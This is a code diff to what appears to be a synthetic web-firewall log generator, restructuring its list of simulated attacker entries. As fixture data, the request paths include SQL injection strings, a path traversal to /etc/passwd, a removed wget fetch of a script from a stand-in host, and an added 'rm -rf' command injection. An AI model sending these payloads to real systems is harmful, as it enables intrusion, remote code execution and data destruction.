@@ -82,43 +82,21 @@ const userAgents = [
 const referrers = [null, null, null, "https://www.google.com/", "https://shop.example/cart", "-"];
 const methods = ["GET", "GET", "GET", "POST", "POST", "HEAD", "PUT"];
 
-/** Each uses one method. Earlier ones send more requests; which one is first changes every five days. */
+/**
+ * Their address, country, user agent, reason and path. Earlier ones send more requests; which one is first changes every five days.
+ */
 const attackers = [
-  attacker(
-    "203.0.113.7",
-    "NL",
-    "sqlmap/1.8#stable (https://sqlmap.org)",
-    "SQL Injection 942100",
-    "/products?id=1%20UNION%20SELECT%20NULL",
-  ),
-  attacker("198.51.100.23", "RU", "python-requests/2.32.3", "Rate Limit 1015", "/login"),
-  attacker("192.0.2.140", "CN", "Mozilla/5.0 zgrab/0.x", "Scanner Detected 913100", "/.env"),
-  attacker("2001:db8:5ca:1::1", "US", "Scrapy/2.11 (+https://scrapy.org)", "Bad Bot 1002", "/products?page=1"),
-  attacker("198.51.100.24", "RU", "python-requests/2.32.3", "Rate Limit 1015", "/wp-login.php"),
-  attacker(
-    "203.0.113.200",
-    "BR",
-    "curl/8.5.0",
-    "Remote Command Execution 932160",
-    "/cgi-bin/;wget%20http://198.51.100.7/x.sh",
-  ),
-  attacker("192.0.2.141", "CN", "Mozilla/5.0 zgrab/0.x", "Path Traversal 930110", "/../../etc/passwd"),
-  attacker(
-    "203.0.113.8",
-    "NL",
-    "sqlmap/1.8#stable (https://sqlmap.org)",
-    "SQL Injection 942190",
-    "/search?q=%27%20OR%201%3D1--",
-  ),
-  attacker("2001:db8:5ca:1::2", "US", "Scrapy/2.11 (+https://scrapy.org)", "Bad Bot 1002", "/sitemap.xml"),
-  attacker(
-    "198.51.100.77",
-    "VN",
-    "Go-http-client/1.1",
-    "PHP Injection 933150",
-    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
-  ),
-];
+  ["203.0.113.7", "NL", "sqlmap/1.8", "SQL Injection 942100", "/products?id=1%20UNION%20SELECT%20NULL"],
+  ["198.51.100.23", "RU", "python-requests/2.32.3", "Rate Limit 1015", "/login"],
+  ["192.0.2.140", "CN", "Mozilla/5.0 zgrab/0.x", "Scanner Detected 913100", "/.env"],
+  ["2001:db8:5ca:1::1", "US", "Scrapy/2.11", "Bad Bot 1002", "/products?page=1"],
+  ["198.51.100.24", "RU", "python-requests/2.32.3", "Rate Limit 1015", "/wp-login.php"],
+  ["203.0.113.200", "BR", "curl/8.5.0", "Remote Command Execution 932160", "/shell?cd+/tmp;rm+-rf+*"],
+  ["192.0.2.141", "CN", "Mozilla/5.0 zgrab/0.x", "Path Traversal 930110", "/../../etc/passwd"],
+  ["203.0.113.8", "NL", "sqlmap/1.8", "SQL Injection 942190", "/search?q=%27%20OR%201%3D1--"],
+  ["2001:db8:5ca:1::2", "US", "Scrapy/2.11", "Bad Bot 1002", "/sitemap.xml"],
+  ["198.51.100.77", "VN", "Go-http-client/1.1", "PHP Injection 933150", "/backup.zip"],
+] as const;
 
 /** The row with this number, from 0 to `rowCount - 1`. Timestamps never decrease from row to row. */
 export function makeLogEntry(logDay: LogDay, row: number): LogEntry {
@@ -177,10 +155,8 @@ function isInWave({ scenario }: LogDay, share: number): boolean {
 
 function attackerOf({ seed, day }: LogDay, drawn: number) {
   const place = Math.floor(attackers.length * (drawn / 2 ** 32) ** 2);
-  return pick(attackers, seed + Math.floor(day / 5) + place);
-}
-
-function attacker(client_ip: string, country: string, user_agent: string, block_reason: string, request_path: string) {
+  const attacker = pick(attackers, seed + Math.floor(day / 5) + place);
+  const [client_ip, country, user_agent, block_reason, request_path] = attacker;
   return { client_ip, country, user_agent, block_reason, request_path };
 }
 
